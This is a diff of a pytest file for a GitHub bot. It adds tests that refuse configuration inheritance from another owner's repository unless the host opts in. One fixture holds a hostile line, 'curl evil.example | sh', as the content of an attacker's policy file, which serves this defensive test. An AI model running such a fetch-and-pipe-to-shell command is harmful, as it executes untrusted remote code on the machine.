@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import ssl
+from types import SimpleNamespace
 
 import httpx
 import pytest
@@ -13,9 +14,10 @@ from gidgethub import BadRequest, GitHubBroken
 from gidgethub.httpx import GitHubAPI
 
 from bot.core.workflow import WorkflowError
-from bot.edges.github.config import MAX_EXTENDS, load_config_chain
+from bot.edges.github.config import EXTENDS_OWNERS_SETTING, MAX_EXTENDS, load_config_chain
+from bot.edges.settings import Settings, SettingsError
 from bot.edges.workflow_files import load_workflow
-from bot.runner.repository_workflow import load_repository_workflow
+from bot.runner.repository_workflow import allowed_extends_owners, load_repository_workflow
 
 API = "https://api.github.com"
 TLS = ssl.create_default_context()
@@ -78,12 +80,12 @@ def run(call):
     return asyncio.run(main())
 
 
-def chain(owner: str = "octocat", repo: str = "hello-world", ref: str | None = None):
-    return run(lambda client: load_config_chain(client, owner, repo, ref))
+def chain(owner: str = "octocat", repo: str = "hello-world", ref: str | None = None, *, extends_owners=()):
+    return run(lambda client: load_config_chain(client, owner, repo, ref, extends_owners=extends_owners))
 
 
-def workflow(owner: str = "octocat", repo: str = "hello-world", ref: str | None = None):
-    return run(lambda client: load_repository_workflow(client, owner, repo, ref))
+def workflow(owner: str = "octocat", repo: str = "hello-world", ref: str | None = None, *, extends_owners=()):
+    return run(lambda client: load_repository_workflow(client, owner, repo, ref, extends_owners=extends_owners))
 
 
 @respx.mock
@@ -143,13 +145,13 @@ def test_extends_chains_are_followed_base_first_and_the_extending_file_wins():
             ): "plan:\n  max_units: 5\n  timeout: 20m\ntrigger:\n  label: ship-it\n",
         }
     )
-    files = chain()
+    files = chain(extends_owners=("acme",))
     assert [source for source, _ in files] == [
         "acme/policies:lanebot/base.yml",
         "octocat/shared:.github/lanebot.yml",
         "octocat/hello-world:.github/lanebot.yml",
     ]
-    result = workflow()
+    result = workflow(extends_owners=("Acme",))  # owner names compare without case
     assert (result.build.max_lanes, result.build.max_retries) == (2, 1)
     assert result.plan.max_units == 4
     assert result.trigger.label == "ship-it"
@@ -165,8 +167,52 @@ def test_a_bare_extends_repository_belongs_to_the_extending_files_owner():
             ("acme", "defaults", CONFIG): "build:\n  max_lanes: 1\n",
         }
     )
-    assert workflow().build.max_lanes == 1
+    assert workflow(extends_owners=("acme",)).build.max_lanes == 1
     assert ("acme", "defaults", CONFIG, None) in contents.asked
+
+
+@respx.mock
+def test_extends_to_another_owners_repository_is_refused_without_the_hosts_opt_in():
+    contents = serve(
+        {
+            ("octocat", "hello-world", CONFIG): "_extends: mallory/policies\n",
+            ("mallory", "policies", CONFIG): "integrate:\n  verify: curl evil.example | sh\n",
+        }
+    )
+    with pytest.raises(WorkflowError) as caught:
+        workflow()
+    assert list(caught.value.problems) == [
+        "octocat/hello-world:.github/lanebot.yml: `_extends: mallory/policies` names a repository of another "
+        "owner (mallory), and a file it loads decides what lanebot runs on octocat's repositories; this host "
+        "allows that only for owners listed in LANEBOT_ALLOW_EXTENDS_OWNERS (e.g. LANEBOT_ALLOW_EXTENDS_OWNERS=mallory)"
+    ]
+    assert all(owner == "octocat" for owner, *_ in contents.asked)  # the other owner's file is not even read
+
+
+@respx.mock
+@pytest.mark.parametrize("allowed", [("mallory",), ("*",), ("acme", "MALLORY")])
+def test_extends_to_another_owners_repository_is_followed_when_the_host_allows_that_owner(allowed):
+    serve(
+        {
+            ("octocat", "hello-world", CONFIG): "_extends: mallory/policies\n",
+            ("mallory", "policies", CONFIG): "build:\n  max_lanes: 1\n",
+        }
+    )
+    assert workflow(extends_owners=allowed).build.max_lanes == 1
+
+
+@respx.mock
+def test_every_hop_of_a_chain_is_held_to_the_repositorys_owner_not_to_the_file_that_extends():
+    serve(
+        {
+            ("octocat", "hello-world", CONFIG): "_extends: acme/policies\n",
+            ("acme", "policies", CONFIG): "_extends: mallory/policies\n",
+            ("mallory", "policies", CONFIG): "build:\n  max_lanes: 1\n",
+        }
+    )
+    with pytest.raises(WorkflowError) as caught:
+        workflow(extends_owners=("acme",))
+    assert "acme/policies:.github/lanebot.yml: `_extends: mallory/policies`" in caught.value.problems[0]
 
 
 @respx.mock
@@ -316,3 +362,32 @@ def test_invalid_settings_are_reported_with_the_file_that_supplied_them():
     assert any(
         "octocat/shared:.github/lanebot.yml" in problem and "schedule" in problem for problem in caught.value.problems
     )
+
+
+# --------------------------------------------------------------------------- the host's opt-in
+
+
+@pytest.fixture(scope="module")
+def app_environ() -> dict[str, str]:
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    pem = key.private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+    ).decode()
+    return {"APP_ID": "12345", "PRIVATE_KEY": pem, "WEBHOOK_SECRET": "s3cret-webhook-value"}
+
+
+def test_the_hosts_opt_in_is_read_from_its_settings_and_reaches_the_workflow_loader(app_environ):
+    settings = Settings.load({**app_environ, EXTENDS_OWNERS_SETTING: " acme, Mallory "}, env_file=None)
+    assert settings.allow_extends_owners == ("acme", "Mallory")
+    assert allowed_extends_owners(SimpleNamespace(settings=settings)) == ("acme", "Mallory")
+    assert Settings.load(app_environ, env_file=None).allow_extends_owners == ()
+    assert allowed_extends_owners(SimpleNamespace()) == ()  # no settings: other owners refused
+
+
+def test_an_opt_in_that_is_not_a_list_of_owners_is_a_settings_error_naming_it(app_environ):
+    with pytest.raises(SettingsError) as caught:
+        Settings.load({**app_environ, EXTENDS_OWNERS_SETTING: "acme/policies"}, env_file=None)
+    assert caught.value.names == (EXTENDS_OWNERS_SETTING,)
